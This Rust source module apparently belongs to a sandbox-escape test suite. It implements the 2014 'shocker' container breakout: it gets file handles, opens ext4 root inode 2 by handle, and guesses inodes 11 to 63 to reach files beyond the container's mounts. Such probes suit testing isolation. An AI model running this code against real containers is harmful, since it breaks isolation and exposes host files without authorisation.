//! File handles: a file opened by its inode number passes by every mount and mask (the "shocker" attack of 2014).

use std::ffi::CString;
use std::path::Path;

use eci_sys::raw::{self, Abi, Argument, Call, Page};
use rustix::fd::{AsFd, OwnedFd};
use rustix::fs::{Mode, OFlags};

use crate::attempt::{At, Attempt, Failure, Verb};

/// Handle type of ext4 and others: inode number and generation.
const INODE_AND_GENERATION: u32 = 1;
/// Inode number of ext4's root folder.
const EXT4_ROOT: u32 = 2;

/// The verbs.
pub const VERBS: &[Verb] = &[
    Verb {
        name: "handle-make",
        why: "names of files by number are harmless until they are opened",
        run: |path| make(path).map(drop),
    },
    Verb {
        name: "handle-open-own",
        why: "what a container may reach by name it might reach by number; nobody needs it",
        run: |path| open(path, &mut *make(path).at("name_to_handle_at")?),
    },
    Verb {
        name: "handle-open-root",
        why: "inode 2 of the data disk is the folder above all volumes and layers",
        run: |path| open(path, &mut Page::of_words(&[8, INODE_AND_GENERATION, EXT4_ROOT, 0])),
    },
    Verb {
        name: "handle-open-guess",
        why: "the inodes behind it are the engine's own files",
        run: |path| {
            let mut outcome = Err(Failure::NothingThere);
            for inode in 11..64 {
                outcome = open(path, &mut Page::of_words(&[8, INODE_AND_GENERATION, inode, 0]));
                if outcome.is_ok() {
                    eprintln!("opened inode {inode}");
                    break;
                }
            }
            outcome
        },
    },
];

fn folder(path: &str) -> Result<OwnedFd, Failure> {
    let path = if path.is_empty() { "/" } else { path };
    let path = Path::new(path);
    let folder = if path.is_dir() { path } else { path.parent().unwrap_or(Path::new("/")) };
    rustix::fs::open(folder, OFlags::RDONLY | OFlags::CLOEXEC, Mode::empty()).at("open")
}

fn make(path: &str) -> Result<Box<Page>, Failure> {
    let text = CString::new(if path.is_empty() { "/" } else { path })
        .map_err(|_| Failure::NotUnderstood("a path with NUL"))?;
    let mut handle = Page::of_words(&[128]);
    let mut mount = Box::<Page>::default();
    raw::call(
        Abi::Native,
        Call::NameToHandleAt,
        &mut [
            Argument::Number(-100),
            Argument::Text(&text),
            Argument::Page(&mut handle),
            Argument::Page(&mut mount),
            Argument::Number(0),
        ],
    )?;
    Ok(handle)
}

fn open(path: &str, handle: &mut Page) -> Attempt {
    let folder = folder(path)?;
    raw::call(
        Abi::Native,
        Call::OpenByHandleAt,
        &mut [Argument::Descriptor(folder.as_fd()), Argument::Page(handle), Argument::Number(0)],
    )?;
    Ok(())
}
